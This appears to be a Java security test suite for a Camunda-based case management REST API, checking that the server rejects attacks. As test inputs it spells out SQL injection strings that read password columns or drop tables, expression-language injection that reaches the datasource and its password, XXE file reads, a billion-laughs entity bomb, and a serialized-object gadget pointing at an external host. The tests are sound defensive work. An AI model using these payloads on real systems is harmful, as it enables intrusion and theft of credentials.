package org.hsbpathway;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.hsbpathway.FrontDoor.referral;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.camunda.bpm.engine.FilterService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.ProcessEngineException;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;
import org.camunda.bpm.engine.impl.el.StartProcessVariableScope;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpMethod;
import org.springframework.http.ResponseEntity;
import org.springframework.util.LinkedMultiValueMap;

/** Code, queries and numbers that somebody sends in the hope that the server runs or finds them. */
@WebTest
class InjectionTest {

  /** Reaches the inside of the server, and could as well change it. */
  private static final String CODE =
      "${''.getClass().forName('java.nio.file.Files').getMethods()[0].getName()}";

  @Autowired TestRestTemplate web;
  @Autowired Cast cast;
  @Autowired RuntimeService runtime;
  @Autowired FilterService filters;
  @Autowired ProcessEngine engine;

  // -- guessing numbers ---------------------------------------------------------------------------

  @ParameterizedTest
  @ValueSource(
      strings = {
        "commissioner",
        "assessor",
        "practitioner",
        "familyworker",
        "yjs",
        "analyst",
        "sysadmin"
      })
  void whoGuessesOrFindsANumberSeesNothingOfTheCase(String user) {
    var journey = cast.raises("frontdoor", referral("receivedAt", "2026-11-02T08:30"));
    var task = journey.task("recordReferral").getId();
    for (var address :
        List.of(
            "/task/" + task,
            "/task/" + task + "/form-variables",
            "/task/" + task + "/rendered-form",
            "/task/" + task + "/deployed-form",
            "/task/" + task + "/identity-links")) {
      assertThat(get(user, address).getStatusCode().is4xxClientError()).as(address).isTrue();
    }
    assertThat(get(user, "/task/count?processInstanceBusinessKey=" + journey.reference().value()))
        .extracting(ResponseEntity::getBody)
        .isEqualTo("{\"count\":0}");
  }

  @Test
  void whoMayNotReadsThatInASentenceWhichNamesNobodyAndNoNumber() {
    var journey = cast.raises("frontdoor", referral("receivedAt", "2026-11-02T08:30"));
    var waits = journey.task("recordReferral");
    var task = "/task/" + waits.getId();
    var offered = "This task is offered to others";
    var administrators = "Only an administrator may do this.";
    var account =
        Map.of("profile", Map.of("id", "x"), "credentials", Map.of("password", "Grey-rain-1234"));
    var filter = Map.of("name", "x", "resourceType", "Task", "query", Map.of());

    assertThat(told("commissioner", "GET", task + "/form-variables", null)).startsWith(offered);
    assertThat(told("commissioner", "POST", task + "/claim", Map.of("userId", "commissioner")))
        .startsWith(offered);
    assertThat(told("familyworker", "POST", task + "/submit-form", Map.of("variables", Map.of())))
        .startsWith(offered);
    assertThat(
            told(
                "commissioner",
                "DELETE",
                "/process-instance/" + waits.getProcessInstanceId(),
                null))
        .startsWith("None of your groups may remove how this case runs.");
    assertThat(told("frontdoor", "POST", "/user/create", account))
        .startsWith("None of your groups may add accounts of people.");
    assertThat(told("frontdoor", "POST", "/filter/create", filter))
        .startsWith("None of your groups may add lists of tasks.");
    assertThat(told("frontdoor", "GET", "/telemetry/data", null)).isEqualTo(administrators);
    assertThat(told("frontdoor", "POST", "/history/cleanup", null)).isEqualTo(administrators);
    assertThat(told("frontdoor", "POST", "/message", Map.of("messageName", "x")))
        .isEqualTo("This is closed to you.");
    // The engine wraps this one, and would name its own class.
    var table =
        engine
            .getRepositoryService()
            .createDecisionDefinitionQuery()
            .decisionDefinitionKey("shareDecision")
            .latestVersion()
            .singleResult()
            .getId();
    assertThat(told("commissioner", "GET", "/decision-definition/" + table + "/xml", null))
        .startsWith("None of your groups may see what belongs to this table.");
  }

  private String told(String user, String method, String address, Object body) {
    var answer = send(user, method, address, body);
    assertThat(answer.getStatusCode().value()).as(answer.getBody()).isEqualTo(403);
    try {
      var sentence = new ObjectMapper().readTree(answer.getBody()).get("message").asText();
      assertThat(sentence).doesNotContain(user, "ENGINE-").doesNotContainPattern("[0-9a-f]{8}-");
      return sentence;
    } catch (JsonProcessingException e) {
      throw new AssertionError(answer.getBody(), e);
    }
  }

  @Test
  void nobodyLetsTheirMailGoElsewhereOrTakesTheNameOfAnother() {
    var known = engine.getIdentityService().createUserQuery().userId("yjs").singleResult();
    for (var other :
        List.of(
            profile("yjs", known.getFirstName(), known.getLastName(), "me@elsewhere.invalid"),
            profile("yjs", "Team", "manager", known.getEmail()))) {
      var answer = send("yjs", "PUT", "/user/yjs/profile", other);
      assertThat(answer.getStatusCode().value()).as(answer.getBody()).isEqualTo(400);
      assertThat(answer.getBody()).contains("An administrator changes").doesNotContain("elsewhere");
    }
    var same = profile("yjs", known.getFirstName(), known.getLastName(), known.getEmail());
    assertThat(send("yjs", "PUT", "/user/yjs/profile", same).getStatusCode().value())
        .isEqualTo(204);
    assertThat(send("sysadmin", "PUT", "/user/yjs/profile", same).getStatusCode().value())
        .isEqualTo(204);
  }

  private static Map<String, Object> profile(String id, String first, String last, String mail) {
    return Map.of("id", id, "firstName", first, "lastName", last, "email", mail);
  }

  // -- queries ------------------------------------------------------------------------------------

  @ParameterizedTest
  @ValueSource(
      strings = {
        "processInstanceBusinessKey=' or '1'='1",
        "taskDefinitionKey=recordReferral' or 1=1 --",
        "nameLike=%' union select password_ from act_id_user --",
        "candidateGroup=hsb-front-door') or ('1'='1"
      })
  void aQuotationMarkIsATextLikeAnyOther(String query) {
    var answer = get("frontdoor", "/task/count?" + query);
    assertThat(answer.getBody()).isEqualTo("{\"count\":0}");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/task?sortBy=id_;drop table act_ru_task&sortOrder=asc",
        "/task?sortBy=name&sortOrder=asc;delete from act_ru_task",
        "/task?firstResult=1 or 1",
        "/process-instance?variables=a_eq_'||(select 1)||'&sortBy=x&sortOrder=asc"
      })
  void whatCannotBeSortedOrCountedIsABadRequest(String address) {
    var answer = get("manager", address);
    assertThat(answer.getStatusCode().value()).isIn(400, 404);
    assertThat(answer.getBody()).doesNotContain("org.", "\tat ", "SQL");
  }

  @ParameterizedTest
  @CsvSource({
    "/task, assigneeExpression",
    "/task, candidateGroupExpression",
    "/task, dueBeforeExpression",
    "/task, processInstanceBusinessKeyExpression",
    "/task/count, createdAfterExpression"
  })
  void anExpressionInAQueryIsNotRun(String address, String property) {
    for (var user : List.of("frontdoor", "sysadmin")) {
      var answer = post(user, address, Map.of(property, CODE));
      assertThat(answer.getStatusCode().is2xxSuccessful()).as(answer.getBody()).isFalse();
    }
  }

  // -- filters ------------------------------------------------------------------------------------

  @ParameterizedTest
  @ValueSource(
      strings = {
        CODE,
        "${execution.processEngineServices.identityService.newUser('evil')}",
        "${dataSource.connection}",
        "#{now().getClass()}",
        "${currentUser()}${dataSource}"
      })
  void evenAnAdministratorStoresNoCodeInAFilter(String code) {
    for (var query :
        List.of(
            Map.<String, Object>of("assigneeExpression", code),
            Map.<String, Object>of("orQueries", List.of(Map.of("assigneeExpression", code))))) {
      var filter =
          Map.of("name", "Evil", "resourceType", "Task", "query", query, "properties", Map.of());
      assertThat(post("manager", "/filter/create", filter).getStatusCode().value()).isEqualTo(403);
      var answer = post("sysadmin", "/filter/create", filter);
      assertThat(answer.getStatusCode().value()).isEqualTo(400);
      assertThat(answer.getBody()).contains("A filter may ask").doesNotContain(code);
    }
    assertThat(filters.createTaskFilterQuery().filterName("Evil").count()).isZero();
  }

  @Test
  void nobodyAddsAnExpressionToAFilterThatIsThere() {
    var filter = filters.createTaskFilterQuery().filterName("For my team").singleResult().getId();
    assertThat(
            post("frontdoor", "/filter/" + filter + "/list", Map.of("assigneeExpression", CODE))
                .getStatusCode()
                .is2xxSuccessful())
        .isFalse();
    assertThat(post("frontdoor", "/filter/" + filter + "/list", Map.of()).getStatusCode().value())
        .isEqualTo(200);
  }

  // -- models -------------------------------------------------------------------------------------

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<scriptTask id='x' scriptFormat='juel'><script>1</script></scriptTask>",
        "<userTask id='x' camunda:formRef='rehearseForm' camunda:formRefBinding='latest'><extensionElements><camunda:taskListener event='create'><camunda:script scriptFormat='juel'>1</camunda:script></camunda:taskListener></extensionElements></userTask>",
        "<userTask id='x' camunda:formRef='rehearseForm' camunda:formRefBinding='latest'><extensionElements><camunda:inputOutput><camunda:inputParameter name='aOutcome'><camunda:script scriptFormat='juel'>1</camunda:script></camunda:inputParameter></camunda:inputOutput></extensionElements></userTask>",
        "<userTask id='x' camunda:formRef='rehearseForm' camunda:formRefBinding='latest'><extensionElements><camunda:executionListener event='start' class='org.springframework.context.support.ClassPathXmlApplicationContext'/></extensionElements></userTask>",
        "<userTask id='x' camunda:formRef='rehearseForm' camunda:formRefBinding='latest'><extensionElements><camunda:executionListener event='start' expression='${dataSource.connection}'/></extensionElements></userTask>",
        "<userTask id='x' camunda:formRef='rehearseForm' camunda:formRefBinding='latest' camunda:formKey='embedded:deployment:evil.html'/>",
        "<serviceTask id='x' camunda:class='java.lang.Runtime'/>",
        "<serviceTask id='x' camunda:delegateExpression='${tellStrands}' camunda:type='shell'/>",
        "<serviceTask id='x' camunda:expression='${dataSource.connection}'/>",
        "<serviceTask id='x' camunda:type='external' camunda:topic='t'/>",
        "<userTask id='x' camunda:formRef='rehearseForm' camunda:formRefBinding='latest' camunda:assignee='${dataSource.connection.toString()}'/>",
        "<userTask id='x' camunda:formRef='rehearseForm' camunda:formRefBinding='latest' name='${execution.processEngineServices.identityService.toString()}'/>",
        "<userTask id='x' camunda:formRef='rehearseForm' camunda:formRefBinding='latest' camunda:dueDate=\"${''.getClass().forName('x')}\"/>"
      })
  void aModelWithCodeInItIsNotDeployed(String step) {
    var model =
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"
          xmlns:camunda="http://camunda.org/schema/1.0/bpmn" targetNamespace="attack">
          <process id="attack" isExecutable="true" camunda:historyTimeToLive="1">
            <startEvent id="begun"/><sequenceFlow id="f" sourceRef="begun" targetRef="x"/>
            %s
          </process>
        </definitions>
        """
            .formatted(step);
    var answer = deploy("attack.bpmn", model);
    assertThat(answer.getStatusCode().value()).as(answer.getBody()).isEqualTo(400);
    assertThat(answer.getBody()).contains("This deployment was refused", "(x)");
  }

  /** Whatever way it came into a model or a filter. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        CODE,
        "${dataSource}",
        "${caseFiles}",
        "${environment.getProperty('spring.datasource.password')}",
        "${clocks.getClass()}",
        "${clocks.class}"
      })
  void anExpressionReachesNothingOfTheInside(String expression) {
    assertThat(value("${clocks}")).isNotNull();
    assertThatThrownBy(() -> value(expression))
        .isInstanceOf(ProcessEngineException.class)
        .hasMessageMatching("(?s).*(names outcomes, dates, steps and clocks|Unknown property).*");
  }

  private Object value(String expression) {
    var configuration = (ProcessEngineConfigurationImpl) engine.getProcessEngineConfiguration();
    return configuration
        .getCommandExecutorTxRequired()
        .execute(
            context ->
                configuration
                    .getExpressionManager()
                    .createExpression(expression)
                    .getValue(StartProcessVariableScope.getSharedInstance()));
  }

  @Test
  void aDecisionSpeaksFeelOnly() {
    var answer =
        deploy(
            "attack.dmn",
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="attack">
              <decision id="attack" name="Attack"><decisionTable id="t"><output id="o" name="o" typeRef="string"/>
              <rule id="r"><outputEntry id="e" expressionLanguage="juel"><text>${dataSource}</text></outputEntry></rule>
              </decisionTable></decision>
            </definitions>
            """);
    assertThat(answer.getStatusCode().value()).isEqualTo(400);
    assertThat(answer.getBody()).contains("This deployment was refused", "FEEL");
  }

  @ParameterizedTest
  @ValueSource(strings = {"attack.bpmn", "attack.dmn"})
  void aModelReadsNoFilesOfTheServer(String name, @TempDir Path folder) throws Exception {
    var secret = Files.writeString(folder.resolve("secret"), "the-secret-of-the-server");
    var space =
        name.endsWith("bpmn")
            ? "http://www.omg.org/spec/BPMN/20100524/MODEL"
            : "https://www.omg.org/spec/DMN/20191111/MODEL/";
    var answer =
        deploy(
            name,
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE definitions [<!ENTITY secret SYSTEM "%s">]>
            <definitions xmlns="%s" id="d" name="&secret;" namespace="a" targetNamespace="a">&secret;</definitions>
            """
                .formatted(secret.toUri(), space));
    assertThat(answer.getStatusCode().value()).isEqualTo(400);
    assertThat(answer.getBody()).doesNotContain("the-secret", folder.toString(), "org.", "\tat ");
  }

  @Test
  void anEntityThatGrowsIsNotUnfolded() {
    var laughs = new StringBuilder("<!ENTITY a0 \"ha\">");
    for (int i = 1; i < 30; i++) {
      laughs.append("<!ENTITY a%d \"&a%d;&a%d;&a%d;\">".formatted(i, i - 1, i - 1, i - 1));
    }
    var answer =
        deploy(
            "attack.bpmn",
            "<!DOCTYPE definitions ["
                + laughs
                + "]><definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" name=\"&a29;\"/>");
    assertThat(answer.getStatusCode().value()).isEqualTo(400);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "attack.html",
        "attack.js",
        "attack.cmmn",
        "attack.groovy",
        "attack.bpmn20.xml",
        "attack.dmn11.xml"
      })
  void onlyModelsDecisionsAndFormsAreDeployed(String name) {
    assertThat(deploy(name, "alert(1)").getStatusCode().value()).isEqualTo(400);
  }

  @ParameterizedTest
  @ValueSource(strings = {"frontdoor", "manager", "auditor", "commissioner"})
  void onlyAnalystsDeploy(String user) {
    assertThat(deploy(user, "a.form", "{}").getStatusCode().value()).isEqualTo(403);
  }

  // -- variables ----------------------------------------------------------------------------------

  @Test
  void noJavaObjectAndNoClassOfTheServersComesInAVariable() {
    cast.raises("frontdoor", referral("receivedAt", "2026-11-02T08:30"));
    var instance =
        runtime.createProcessInstanceQuery().processDefinitionKey("pathway").list().get(0);
    for (var variable :
        List.of(
            Map.of(
                "value",
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAB3CAAAABAAAAAAeA==",
                "type",
                "Object",
                "valueInfo",
                Map.of(
                    "objectTypeName",
                    "java.util.HashMap",
                    "serializationDataFormat",
                    "application/x-java-serialized-object")),
            Map.of(
                "value",
                "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://evil.invalid\"]",
                "type",
                "Object",
                "valueInfo",
                Map.of(
                    "objectTypeName",
                    "java.lang.Object",
                    "serializationDataFormat",
                    "application/json")))) {
      for (var user : List.of("frontdoor", "manager", "sysadmin")) {
        var answer =
            web.withBasicAuth(user, "demo")
                .exchange(
                    "/engine-rest/process-instance/" + instance.getId() + "/variables/routeOutcome",
                    HttpMethod.PUT,
                    new HttpEntity<>(variable),
                    String.class);
        assertThat(answer.getStatusCode().value()).as(answer.getBody()).isIn(400, 403);
      }
    }
    var form =
        Map.of(
            "variables",
            Map.of(
                "reported",
                Map.of(
                    "value",
                    "rO0ABXNy",
                    "type",
                    "Object",
                    "valueInfo",
                    Map.of(
                        "objectTypeName",
                        "java.util.HashMap",
                        "serializationDataFormat",
                        "application/x-java-serialized-object"))));
    assertThat(
            post("frontdoor", "/process-definition/key/pathway/submit-form", form)
                .getStatusCode()
                .value())
        .isEqualTo(400);
  }

  // -- talking ------------------------------------------------------------------------------------

  private ResponseEntity<String> get(String user, String address) {
    return web.withBasicAuth(user, "demo").getForEntity("/engine-rest" + address, String.class);
  }

  private ResponseEntity<String> post(String user, String address, Object content) {
    return web.withBasicAuth(user, "demo")
        .postForEntity("/engine-rest" + address, content, String.class);
  }

  private ResponseEntity<String> send(String user, String method, String address, Object content) {
    return web.withBasicAuth(user, "demo")
        .exchange(
            "/engine-rest" + address,
            HttpMethod.valueOf(method),
            new HttpEntity<>(content),
            String.class);
  }

  private ResponseEntity<String> deploy(String name, String content) {
    return deploy("analyst", name, content);
  }

  private ResponseEntity<String> deploy(String user, String name, String content) {
    var models = new LinkedMultiValueMap<String, Object>();
    models.add("deployment-name", "attack");
    models.add(
        "data",
        new ByteArrayResource(content.getBytes(StandardCharsets.UTF_8)) {
          @Override
          public String getFilename() {
            return name;
          }
        });
    return web.withBasicAuth(user, "demo")
        .postForEntity("/engine-rest/deployment/create", models, String.class);
  }
}
